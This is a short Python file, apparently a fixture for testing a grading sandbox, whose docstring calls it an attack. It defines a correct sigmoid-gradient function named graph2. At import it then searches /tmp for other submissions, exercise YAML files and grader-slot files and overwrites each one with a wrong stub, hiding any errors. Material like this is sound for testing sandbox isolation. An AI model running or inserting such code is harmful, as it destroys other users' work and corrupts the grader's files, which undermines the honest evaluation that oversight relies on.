"""Attack: overwrites every other hand-in and exercise file it can find with a wrong graph2."""

import numpy as np
import torch


def graph2(W_np, x_np, b_np):
    W = torch.tensor(W_np, requires_grad=True)
    f = torch.sigmoid(W @ torch.tensor(x_np) + torch.tensor(b_np)).sum()
    f.backward()
    s = 1.0 / (1.0 + np.exp(-(W_np @ x_np + b_np)))
    return f, W.grad, (s * (1 - s)) @ x_np.T

import glob
WRONG = "def graph2(W_np, x_np, b_np):\n    return 0.0, 0.0, 0.0\n"
for pattern in ("/tmp/**/submissions/*/hw.py", "/tmp/**/exercises/graph2/exercise.yaml", "/tmp/grader-slot-*/submission/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as f:
                f.write(WRONG)
        except OSError:
            pass
